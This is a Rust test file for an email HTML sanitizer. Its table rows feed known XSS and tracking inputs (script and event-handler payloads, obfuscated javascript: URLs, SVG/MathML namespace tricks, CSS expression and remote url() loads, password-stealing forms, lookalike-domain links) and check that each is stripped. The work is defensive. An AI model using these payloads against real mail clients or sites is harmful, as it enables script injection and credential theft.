//! Table tests: one row per policy rule and per known attack, checked together so a failure
//! report lists every broken row at once. Every row is also sanitized twice: the second pass
//! must change nothing.

use std::collections::HashMap;

use super::*;

const CID_BASE: &str = "tern-part://localhost/acct/7/42/";

/// Which options a row runs with.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    /// Remote content off (the default when a message opens).
    Blocked,
    /// Remote content allowed.
    Remote,
}

fn options(mode: Mode) -> RenderOptions {
    RenderOptions {
        allow_remote: mode == Mode::Remote,
        cid_base: CID_BASE.to_owned(),
        known_cids: HashMap::from([
            ("logo@example.com".to_owned(), "1.2".to_owned()),
            ("<photo 1@example.com>".to_owned(), "2".to_owned()),
        ]),
    }
}

#[derive(Debug, Clone, Copy)]
struct Case {
    name: &'static str,
    html: &'static str,
    mode: Mode,
    /// The whole output, when the row pins it.
    exact: Option<&'static str>,
    contains: &'static [&'static str],
    /// Checked case-insensitively.
    absent: &'static [&'static str],
    blocked_remote: u32,
    tracking_pixels: u32,
}

const ROW: Case = Case {
    name: "",
    html: "",
    mode: Mode::Blocked,
    exact: None,
    contains: &[],
    absent: &[],
    blocked_remote: 0,
    tracking_pixels: 0,
};

const CASES: &[Case] = &[
    // Scripts and event handlers.
    Case {
        name: "script removed with its content",
        html: "<p>a<script>alert(1)</script>b</p>",
        exact: Some("<p>ab</p>"),
        ..ROW
    },
    Case {
        name: "script in svg",
        html: "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(2)\">x</a></svg>ok",
        absent: &["script", "alert", "svg", "href"],
        contains: &["ok"],
        ..ROW
    },
    Case {
        name: "svg image onload",
        html: "<svg><image href=\"x\" onload=\"alert(1)\"/></svg>",
        absent: &["onload", "alert", "<svg", "<image"],
        ..ROW
    },
    Case {
        name: "math mglyph namespace confusion",
        html: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        absent: &["onerror", "alert", "<math", "<mglyph", "<mtext"],
        ..ROW
    },
    Case {
        name: "math annotation-xml",
        html: "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        absent: &["onerror", "alert", "<math", "annotation"],
        ..ROW
    },
    Case {
        name: "noscript attribute breakout",
        html: "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        absent: &["onerror=", "<noscript"],
        ..ROW
    },
    Case {
        name: "title removed with its text",
        html: "<title>Newsletter</title><p>Hi</p>",
        exact: Some("<p>Hi</p>"),
        ..ROW
    },
    Case { name: "img onerror", html: "<img src=x onerror=alert(1)>", exact: Some("<img>"), ..ROW },
    Case {
        name: "event handlers in any case",
        html: "<div onmouseover=\"x()\" ONCLICK=\"y()\" OnFocus=z>t</div>",
        exact: Some("<div>t</div>"),
        ..ROW
    },
    Case {
        name: "details ontoggle",
        html: "<details open ontoggle=\"alert(1)\"><summary>s</summary>d</details>",
        exact: Some("<details open=\"\"><summary>s</summary>d</details>"),
        ..ROW
    },
    Case {
        name: "body onload",
        html: "<body onload=alert(1)><p>x</p></body>",
        exact: Some("<p>x</p>"),
        ..ROW
    },
    // Forms.
    Case {
        name: "form, input, button",
        html: "<form action=\"https://evil.example/steal\" method=post><input name=p type=password><button formaction=\"https://evil.example/\">Go</button></form>",
        exact: Some("Go"),
        ..ROW
    },
    Case {
        name: "select and textarea",
        html: "<select><option>A</option></select><textarea>&lt;b&gt;</textarea>",
        absent: &["<select", "<option", "<textarea", "<b>"],
        ..ROW
    },
    // Embedded content.
    Case {
        name: "iframe, object, embed, applet",
        html: "<iframe src=\"https://evil.example/\"></iframe><object data=\"x.swf\"><param name=a value=b></object><embed src=\"x.swf\"><applet code=\"X\"></applet>ok",
        exact: Some("ok"),
        ..ROW
    },
    Case {
        name: "frameset",
        html: "<frameset><frame src=\"https://evil.example/\"></frameset>ok",
        absent: &["frame", "evil"],
        ..ROW
    },
    Case {
        name: "video and audio",
        html: "<video src=\"https://x.example/v.mp4\" poster=\"https://x.example/p.png\"></video><audio src=\"https://x.example/a.mp3\"></audio>ok",
        exact: Some("ok"),
        ..ROW
    },
    // Head elements.
    Case {
        name: "base",
        html: "<base href=\"https://evil.example/\"><a href=\"https://ok.example/\">x</a>",
        exact: Some("<a href=\"https://ok.example/\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>"),
        ..ROW
    },
    Case {
        name: "meta refresh",
        html: "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">hi",
        exact: Some("hi"),
        ..ROW
    },
    Case {
        name: "link stylesheet",
        html: "<link rel=stylesheet href=\"https://evil.example/s.css\">hi",
        exact: Some("hi"),
        ..ROW
    },
    Case {
        name: "conditional comments",
        html: "<!--[if mso]><p>outlook</p><![endif]--><p>x</p><!-- note -->",
        exact: Some("<p>x</p>"),
        ..ROW
    },
    // CSS.
    Case {
        name: "style @import url",
        html: "<style>@import url(http://x.example/s.css); p { color: red }</style>",
        exact: Some("<style>p{color:red}</style>"),
        ..ROW
    },
    Case {
        name: "style @import string, even when remote is allowed",
        html: "<style>@import \"https://x.example/s.css\";p{color:red}</style>",
        mode: Mode::Remote,
        exact: Some("<style>p{color:red}</style>"),
        ..ROW
    },
    Case {
        name: "style remote background blocked",
        html: "<style>td.hero { background: url('https://x.example/bg.png') no-repeat; color: #333 }</style>",
        exact: Some("<style>td.hero{color:#333}</style>"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "style remote background allowed",
        html: "<style>td.hero { background: url('https://x.example/bg.png') no-repeat; color: #333 }</style>",
        mode: Mode::Remote,
        exact: Some(
            "<style>td.hero{background:url(\"https://x.example/bg.png\") no-repeat;color:#333}</style>",
        ),
        ..ROW
    },
    Case {
        name: "style @media keeps rules, drops remote",
        html: "<style>@media (max-width: 600px) { .col { width: 100% !important; background-image: url(http://x.example/m.png) } }</style>",
        exact: Some("<style>@media (max-width: 600px){.col{width:100% !important}}</style>"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "style @font-face remote font blocked",
        html: "<style>@font-face { font-family: Brand; src: url(https://fonts.example/b.woff2) format('woff2') } p { font-family: Brand }</style>",
        exact: Some("<style>@font-face{font-family:Brand}p{font-family:Brand}</style>"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "style @font-face remote font allowed",
        html: "<style>@font-face { font-family: Brand; src: url(https://fonts.example/b.woff2) }</style>",
        mode: Mode::Remote,
        exact: Some("<style>@font-face{font-family:Brand;src:url(https://fonts.example/b.woff2)}</style>"),
        ..ROW
    },
    Case {
        name: "style cannot close itself",
        html: "<style>p { content: \"\\3c/style><script>alert(1)</script>\" }</style>",
        absent: &["<script", "</style><"],
        contains: &["\\3c /style"],
        ..ROW
    },
    Case {
        name: "style inside svg",
        html: "<svg><style>@import url(http://x.example/s.css);</style></svg>ok",
        exact: Some("ok"),
        ..ROW
    },
    Case {
        name: "style svg data url",
        html: "<style>p{background:url(\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\");color:red}</style>",
        exact: Some("<style>p{color:red}</style>"),
        ..ROW
    },
    Case {
        name: "style expression and behavior",
        html: "<style>p { width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(http://x.example/b.xml#x); color: red }</style>",
        exact: Some("<style>p{color:red}</style>"),
        ..ROW
    },
    Case {
        name: "style javascript url",
        html: "<style>p { background: url(javascript:alert(1)); color: red }</style>",
        exact: Some("<style>p{color:red}</style>"),
        ..ROW
    },
    Case {
        name: "style escaped url function",
        html: "<style>p { background: \\75 rl(http://x.example/p.gif); color: red }</style>",
        absent: &["x.example"],
        contains: &["color:red"],
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "style protocol-relative url",
        html: "<style>p { background: url(//x.example/p.gif) }</style>",
        exact: Some("<style></style>"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "style cid url rewritten",
        html: "<style>td { background: url(cid:logo@example.com) }</style>",
        exact: Some("<style>td{background:url(tern-part://localhost/acct/7/42/1.2)}</style>"),
        ..ROW
    },
    Case {
        name: "inline remote background blocked",
        html: "<p style=\"background:url(http://tracker.example/p.gif);color:red\">x</p>",
        exact: Some("<p style=\"color:red\">x</p>"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "inline remote background allowed",
        html: "<p style=\"background:url(http://tracker.example/p.gif);color:red\">x</p>",
        mode: Mode::Remote,
        exact: Some("<p style=\"background:url(http://tracker.example/p.gif);color:red\">x</p>"),
        ..ROW
    },
    Case {
        name: "inline expression",
        html: "<p style=\"width:expression(alert(1));color:red\">x</p>",
        exact: Some("<p style=\"color:red\">x</p>"),
        ..ROW
    },
    Case {
        name: "inline behavior and binding",
        html: "<p style=\"behavior:url(x.htc);-moz-binding:url(http://x.example/b.xml#x);color:red\">x</p>",
        exact: Some("<p style=\"color:red\">x</p>"),
        ..ROW
    },
    Case {
        name: "inline escaped property name",
        html: "<p style=\"beh\\61vior:url(x.htc);color:red\">x</p>",
        exact: Some("<p style=\"color:red\">x</p>"),
        ..ROW
    },
    Case {
        name: "inline javascript url",
        html: "<p style=\"background-image:url(javascript:alert(1))\">x</p>",
        exact: Some("<p>x</p>"),
        ..ROW
    },
    Case {
        name: "inline image-set",
        html: "<p style=\"background-image:image-set(&quot;http://t.example/a.png&quot; 1x)\">x</p>",
        exact: Some("<p>x</p>"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "inline nested rule dropped",
        html: "<p style=\"color:red;a{background:url(http://x.example/a.png)}\">x</p>",
        exact: Some("<p style=\"color:red\">x</p>"),
        ..ROW
    },
    // Links.
    Case {
        name: "link gets target and rel",
        html: "<a href=\"https://e.example/\" target=\"_self\" rel=\"opener\">x</a>",
        exact: Some("<a href=\"https://e.example/\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>"),
        ..ROW
    },
    Case {
        name: "link javascript",
        html: "<a href=\"javascript:alert(1)\">x</a>",
        exact: Some("<a target=\"_blank\" rel=\"noopener noreferrer\">x</a>"),
        ..ROW
    },
    Case {
        name: "link mixed-case javascript",
        html: "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        absent: &["href", "alert"],
        ..ROW
    },
    Case {
        name: "link javascript split by a tab entity",
        html: "<a href=\"java&#x09;script:alert(1)\">x</a>",
        absent: &["href", "alert"],
        ..ROW
    },
    Case {
        name: "link javascript split by a newline",
        html: "<a href=\"java\nscript:alert(1)\">x</a>",
        absent: &["href", "alert"],
        ..ROW
    },
    Case {
        name: "link javascript as entities",
        html: "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
        absent: &["href", "alert"],
        ..ROW
    },
    Case {
        name: "link javascript after spaces",
        html: "<a href=\"  \u{1}javascript:alert(1)\">x</a>",
        absent: &["href", "alert"],
        ..ROW
    },
    Case {
        name: "link vbscript",
        html: "<a href=\"vbscript:msgbox(1)\">x</a>",
        absent: &["href", "msgbox"],
        ..ROW
    },
    Case {
        name: "link data html",
        html: "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        absent: &["href", "data:"],
        ..ROW
    },
    Case {
        name: "link file",
        html: "<a href=\"file:///etc/passwd\">x</a>",
        absent: &["href", "file:"],
        ..ROW
    },
    Case { name: "link relative", html: "<a href=\"/account/login\">x</a>", absent: &["href"], ..ROW },
    Case {
        name: "link protocol-relative becomes https",
        html: "<a href=\"//e.example/x\">x</a>",
        contains: &["href=\"https://e.example/x\""],
        ..ROW
    },
    Case {
        name: "link mailto and tel",
        html: "<a href=\"mailto:a@e.example\">m</a><a href=\"tel:+15551234\">t</a>",
        contains: &["href=\"mailto:a@e.example\"", "href=\"tel:+15551234\""],
        ..ROW
    },
    Case {
        name: "link ping and download dropped",
        html: "<a href=\"https://e.example/\" ping=\"https://t.example/\" download>x</a>",
        exact: Some("<a href=\"https://e.example/\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>"),
        ..ROW
    },
    Case {
        name: "link to a part url refused",
        html: "<a href=\"tern-part://localhost/acct/7/42/1.2\">x</a>",
        absent: &["href"],
        ..ROW
    },
    // Images.
    Case {
        name: "cid image rewritten",
        html: "<img src=\"cid:logo@example.com\" alt=\"Logo\">",
        exact: Some("<img src=\"tern-part://localhost/acct/7/42/1.2\" alt=\"Logo\">"),
        ..ROW
    },
    Case {
        name: "cid image percent-encoded, bracketed key",
        html: "<img src=\"CID:photo%201@example.com\">",
        exact: Some("<img src=\"tern-part://localhost/acct/7/42/2\">"),
        ..ROW
    },
    Case {
        name: "part url of this message kept",
        html: "<img src=\"tern-part://localhost/acct/7/42/1.2\">",
        exact: Some("<img src=\"tern-part://localhost/acct/7/42/1.2\">"),
        ..ROW
    },
    Case {
        name: "part url climbing out of this message",
        html: "<img src=\"tern-part://localhost/acct/7/42/../43/1.2\"><img src=\"tern-part://localhost/acct/7/42/%2E%2e\"><img src=\"tern-part://localhost/other/1/1/2\">",
        exact: Some("<img><img><img>"),
        ..ROW
    },
    Case {
        name: "cid image unknown",
        html: "<img src=\"cid:nobody@example.com\" alt=\"a\">",
        exact: Some("<img alt=\"a\">"),
        ..ROW
    },
    Case {
        name: "cid tiny image is not a tracker",
        html: "<img src=\"cid:logo@example.com\" width=\"1\" height=\"1\">",
        exact: Some("<img src=\"tern-part://localhost/acct/7/42/1.2\" width=\"1\" height=\"1\">"),
        ..ROW
    },
    Case {
        name: "data png image",
        html: "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        exact: Some("<img src=\"data:image/png;base64,iVBORw0KGgo=\">"),
        ..ROW
    },
    Case {
        name: "data svg image",
        html: "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        exact: Some("<img>"),
        ..ROW
    },
    Case {
        name: "data html image",
        html: "<img src=\"data:text/html,<script>alert(1)</script>\">",
        exact: Some("<img>"),
        ..ROW
    },
    Case { name: "file image", html: "<img src=\"file:///C:/secret.png\">", exact: Some("<img>"), ..ROW },
    Case {
        name: "remote image blocked",
        html: "<img src=\"https://x.example/logo.png\" alt=\"Logo\" width=\"120\">",
        exact: Some("<img alt=\"Logo\" width=\"120\" data-tern-blocked=\"\">"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "remote image allowed",
        html: "<img src=\"https://x.example/logo.png\" alt=\"Logo\" width=\"120\">",
        mode: Mode::Remote,
        exact: Some("<img src=\"https://x.example/logo.png\" alt=\"Logo\" width=\"120\">"),
        ..ROW
    },
    Case {
        name: "protocol-relative image blocked",
        html: "<img src=\"//x.example/logo.png\">",
        exact: Some("<img data-tern-blocked=\"\">"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "protocol-relative image allowed becomes https",
        html: "<img src=\"//x.example/logo.png\">",
        mode: Mode::Remote,
        exact: Some("<img src=\"https://x.example/logo.png\">"),
        ..ROW
    },
    Case {
        name: "srcset blocked",
        html: "<img srcset=\"https://x.example/a.png 1x, https://x.example/b.png 2x\" alt=\"a\">",
        exact: Some("<img alt=\"a\" data-tern-blocked=\"\">"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "srcset allowed",
        html: "<img src=\"https://x.example/a.png\" srcset=\"https://x.example/b.png 2x\">",
        mode: Mode::Remote,
        exact: Some("<img src=\"https://x.example/a.png\" srcset=\"https://x.example/b.png 2x\">"),
        ..ROW
    },
    Case {
        name: "srcset with a data candidate dropped",
        html: "<img srcset=\"data:image/png;base64,AA== 1x\">",
        mode: Mode::Remote,
        exact: Some("<img>"),
        ..ROW
    },
    Case {
        name: "forged placeholder mark removed",
        html: "<img src=\"cid:logo@example.com\" data-tern-blocked=\"yes\">",
        exact: Some("<img src=\"tern-part://localhost/acct/7/42/1.2\">"),
        ..ROW
    },
    Case {
        name: "background attribute blocked",
        html: "<table background=\"http://x.example/bg.png\"><tr><td background=\"cid:logo@example.com\">x</td></tr></table>",
        exact: Some(
            "<table><tbody><tr><td background=\"tern-part://localhost/acct/7/42/1.2\">x</td></tr></tbody></table>",
        ),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "background attribute allowed",
        html: "<table background=\"http://x.example/bg.png\"><tr><td>x</td></tr></table>",
        mode: Mode::Remote,
        contains: &["background=\"http://x.example/bg.png\""],
        ..ROW
    },
    Case {
        name: "background attribute javascript",
        html: "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        absent: &["background", "alert"],
        ..ROW
    },
    // Tracking pixels.
    Case {
        name: "1x1 pixel blocked",
        html: "<p>Hi</p><img src=\"https://t.example/open.gif?id=42\" width=\"1\" height=\"1\" alt=\"\">",
        exact: Some("<p>Hi</p>"),
        tracking_pixels: 1,
        ..ROW
    },
    Case {
        name: "1x1 pixel allowed",
        html: "<p>Hi</p><img src=\"https://t.example/open.gif?id=42\" width=\"1\" height=\"1\">",
        mode: Mode::Remote,
        exact: Some("<p>Hi</p>"),
        tracking_pixels: 1,
        ..ROW
    },
    Case {
        name: "0x0 pixel in px",
        html: "<img src=\"https://t.example/o.gif\" width=\"0px\" height=\"0\">",
        exact: Some(""),
        tracking_pixels: 1,
        ..ROW
    },
    Case {
        name: "pixel sized by style",
        html: "<img src=\"https://t.example/o.gif\" style=\"width:1px;height:1px;border:0\">",
        exact: Some(""),
        tracking_pixels: 1,
        ..ROW
    },
    Case {
        name: "pixel hidden by display",
        html: "<img src=\"https://t.example/o.gif\" style=\"display:none\">",
        mode: Mode::Remote,
        exact: Some(""),
        tracking_pixels: 1,
        ..ROW
    },
    Case {
        name: "pixel hidden by visibility",
        html: "<img src=\"https://t.example/o.gif\" style=\"visibility: hidden\">",
        exact: Some(""),
        tracking_pixels: 1,
        ..ROW
    },
    Case {
        name: "pixel with only a width",
        html: "<img src=\"https://t.example/o.gif\" width=\"2\">",
        exact: Some(""),
        tracking_pixels: 1,
        ..ROW
    },
    Case {
        name: "thin divider is not a pixel",
        html: "<img src=\"https://x.example/line.png\" width=\"600\" height=\"1\">",
        exact: Some("<img width=\"600\" height=\"1\" data-tern-blocked=\"\">"),
        blocked_remote: 1,
        ..ROW
    },
    Case {
        name: "pixels and images counted apart",
        html: "<img src=\"https://x.example/a.png\"><img src=\"http://x.example/b.png\"><img src=\"https://t.example/o.gif\" height=\"1\" width=\"1\"><p style=\"background:url(https://x.example/c.png)\">x</p>",
        contains: &["<p>x</p>"],
        absent: &["x.example", "t.example"],
        blocked_remote: 3,
        tracking_pixels: 1,
        ..ROW
    },
    // Structure survives.
    Case {
        name: "ordinary newsletter markup",
        html: "<table width=\"100%\" cellpadding=\"0\" bgcolor=\"#fff\"><tr><td align=\"center\" class=\"hero\"><h1 style=\"font-size:24px\">Hello</h1><p>Text &amp; more</p></td></tr></table>",
        exact: Some(
            "<table width=\"100%\" cellpadding=\"0\" bgcolor=\"#fff\"><tbody><tr><td align=\"center\" class=\"hero\"><h1 style=\"font-size:24px\">Hello</h1><p>Text &amp; more</p></td></tr></tbody></table>",
        ),
        ..ROW
    },
];

#[test]
fn every_policy_row_holds() {
    let mut failures = Vec::new();
    for case in CASES {
        let out = sanitize_html(case.html, &options(case.mode));
        let mut fail =
            |what: String| failures.push(format!("{}: {what}\n    output: {}", case.name, out.html));
        if let Some(exact) = case.exact
            && out.html != exact
        {
            fail(format!("expected exactly {exact:?}"));
        }
        for needle in case.contains {
            if !out.html.contains(needle) {
                fail(format!("missing {needle:?}"));
            }
        }
        for needle in case.absent {
            if out.html.to_ascii_lowercase().contains(&needle.to_ascii_lowercase()) {
                fail(format!("should not contain {needle:?}"));
            }
        }
        if out.blocked_remote != case.blocked_remote {
            fail(format!("blocked_remote {} instead of {}", out.blocked_remote, case.blocked_remote));
        }
        if out.tracking_pixels != case.tracking_pixels {
            fail(format!("tracking_pixels {} instead of {}", out.tracking_pixels, case.tracking_pixels));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn no_output_carries_script_or_remote_loads_when_blocked() {
    // Whatever a row expects, some things never appear in any output.
    for case in CASES {
        let out = sanitize_html(case.html, &options(case.mode)).html.to_ascii_lowercase();
        for forbidden in [
            "<script",
            "javascript:",
            "vbscript:",
            "onerror",
            "onload",
            "<iframe",
            "<form",
            "<meta",
            "<base",
            "<link",
        ] {
            assert!(!out.contains(forbidden), "{}: {forbidden} in {out}", case.name);
        }
        if case.mode == Mode::Blocked {
            assert!(!out.contains("src=\"http"), "{}: remote src in {out}", case.name);
            assert!(!out.contains("url(http"), "{}: remote url() in {out}", case.name);
            assert!(!out.contains("url(\"http"), "{}: remote url() in {out}", case.name);
        }
    }
}

#[test]
fn sanitizing_twice_changes_nothing() {
    for case in CASES {
        for mode in [Mode::Blocked, Mode::Remote] {
            let once = sanitize_html(case.html, &options(mode));
            let twice = sanitize_html(&once.html, &options(mode));
            assert_eq!(twice.html, once.html, "{} ({mode:?})", case.name);
            assert_eq!(twice.links, once.links, "{} ({mode:?})", case.name);
            assert_eq!(twice.tracking_pixels, 0, "{} ({mode:?})", case.name);
            assert_eq!(twice.blocked_remote, 0, "{} ({mode:?})", case.name);
        }
    }
}

#[test]
fn links_are_collected_in_order_with_their_text() {
    let html = "<p>Pay at <a href=\"https://pay.example/\"><b>our  secure\n page</b></a>, or \
                <a href=\"javascript:x()\">not this</a> <a href=\"mailto:help@pay.example\">write</a>.</p>";
    let out = sanitize_html(html, &options(Mode::Blocked));
    assert_eq!(
        out.links,
        vec![
            Link {
                href: "https://pay.example/".into(),
                text: "our secure page".into(),
                mismatched_domain: false
            },
            Link { href: "mailto:help@pay.example".into(), text: "write".into(), mismatched_domain: false },
        ]
    );
}

#[test]
fn link_text_naming_another_site_is_flagged() {
    // (href, text, mismatched)
    let rows: &[(&str, &str, bool)] = &[
        ("https://evil.example/login", "https://mybank.com", true),
        ("https://evil.example/", "www.mybank.com", true),
        ("https://evil.example/", "mybank.com/login", true),
        ("https://mybank.com.evil.example/", "mybank.com", true),
        ("https://mybank.com@evil.example/", "https://mybank.com", true),
        ("https://xn--mybnk-gxa.com/", "mybank.com", true),
        ("tel:+15551234", "www.mybank.com", true),
        ("mailto:x@evil.example", "mybank.com", true),
        ("https://www.mybank.com/x", "MyBank.com", false),
        ("https://mybank.com/", "https://www.mybank.com/", false),
        ("https://secure.mybank.com/", "mybank.com", false),
        ("https://mybank.com/", "secure.mybank.com", false),
        ("https://MYBANK.com./", "(mybank.com).", false),
        ("mailto:help@mybank.com", "mybank.com", false),
        ("https://files.example/r.pdf", "report.pdf", false),
        ("https://evil.example/", "Click here", false),
        ("https://evil.example/", "Version 3.14", false),
        ("https://evil.example/", "3.14", false),
        ("https://evil.example/", "help@mybank.com", false),
        ("https://10.0.0.1/", "https://10.0.0.1/", false),
        ("https://evil.example/", "192.168.0.1", true),
    ];
    for &(href, text, mismatched) in rows {
        let html = format!("<a href=\"{href}\">{text}</a>");
        let out = sanitize_html(&html, &options(Mode::Blocked));
        assert_eq!(out.links.len(), 1, "{href} / {text}: {out:?}");
        assert_eq!(out.links[0].mismatched_domain, mismatched, "{href} / {text}");
    }
}

#[test]
fn default_options_show_no_inline_parts() {
    let out = sanitize_html("<img src=\"cid:logo@example.com\" alt=\"a\">", &RenderOptions::default());
    assert_eq!(out.html, "<img alt=\"a\">");
}

#[test]
fn hostile_nesting_does_not_break_anything() {
    let deep_html = "<div>".repeat(2_000) + "x" + &"</div>".repeat(2_000);
    let out = sanitize_html(&deep_html, &options(Mode::Blocked));
    assert!(out.html.contains('x'));

    let deep_css = format!("<p style=\"color:red;x:{}1{}\">y</p>", "(".repeat(500), ")".repeat(500));
    let out = sanitize_html(&deep_css, &options(Mode::Blocked));
    assert!(out.html.contains("y</p>"), "{}", out.html);
}

// Plain text.

#[test]
fn plain_text_becomes_escaped_linked_quoted_html() {
    let rows: &[(&str, &str, &str)] = &[
        (
            "escaping",
            "a < b && c > \"d\"",
            "<div style=\"white-space:pre-wrap\">a &lt; b &amp;&amp; c &gt; \"d\"</div>",
        ),
        (
            "markup is text",
            "<script>alert(1)</script>",
            "<div style=\"white-space:pre-wrap\">&lt;script&gt;alert(1)&lt;/script&gt;</div>",
        ),
        (
            "line breaks",
            "one\ntwo\r\n\r\nthree\n",
            "<div style=\"white-space:pre-wrap\">one<br>two<br><br>three</div>",
        ),
        ("spaces kept", "  indented  text", "<div style=\"white-space:pre-wrap\">  indented  text</div>"),
        (
            "url with special characters",
            "See https://example.com/?a=1&b=2<x>.",
            "<div style=\"white-space:pre-wrap\">See <a href=\"https://example.com/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">https://example.com/?a=1&amp;b=2</a>&lt;x&gt;.</div>",
        ),
        (
            "email and mailto",
            "Write to bob@example.com",
            "<div style=\"white-space:pre-wrap\">Write to <a href=\"mailto:bob@example.com\" target=\"_blank\" rel=\"noopener noreferrer\">bob@example.com</a></div>",
        ),
        (
            "other schemes stay text",
            "javascript:alert(1) ftp://example.com/x",
            "<div style=\"white-space:pre-wrap\">javascript:alert(1) ftp://example.com/x</div>",
        ),
        (
            "quotes nest by depth",
            "Hi\n> first\n> > deeper\n>> deeper still\n> back\nme",
            "<div style=\"white-space:pre-wrap\">Hi<blockquote>first<blockquote>deeper<br>deeper still</blockquote>back</blockquote>me</div>",
        ),
        (
            "quote at the end",
            "x\n>q",
            "<div style=\"white-space:pre-wrap\">x<blockquote>q</blockquote></div>",
        ),
        (
            "escaped quote content",
            "> <b>&",
            "<div style=\"white-space:pre-wrap\"><blockquote>&lt;b&gt;&amp;</blockquote></div>",
        ),
        ("empty", "", "<div style=\"white-space:pre-wrap\"></div>"),
        ("old mac line ends and nul", "a\rb\0c", "<div style=\"white-space:pre-wrap\">a<br>bc</div>"),
        (
            "mailto url",
            "mailto:bob@example.com?subject=hi",
            "<div style=\"white-space:pre-wrap\"><a href=\"mailto:bob@example.com\" target=\"_blank\" rel=\"noopener noreferrer\">mailto:bob@example.com</a>?subject=hi</div>",
        ),
    ];
    for &(name, text, expected) in rows {
        let html = plain_to_html(text);
        assert_eq!(html, expected, "{name}");
        // Already within the policy: sanitizing changes nothing.
        let sanitized = sanitize_html(&html, &options(Mode::Blocked));
        assert_eq!(sanitized.html, html, "{name}: sanitized");
    }
}

#[test]
fn plain_text_links_are_collected_by_the_sanitizer() {
    let html = plain_to_html("Log in at https://mybank.com/login or mail help@mybank.com");
    let links = sanitize_html(&html, &options(Mode::Blocked)).links;
    assert_eq!(links.len(), 2);
    assert_eq!(links[0].href, "https://mybank.com/login");
    assert_eq!(links[1].href, "mailto:help@mybank.com");
    assert!(links.iter().all(|link| !link.mismatched_domain));
}
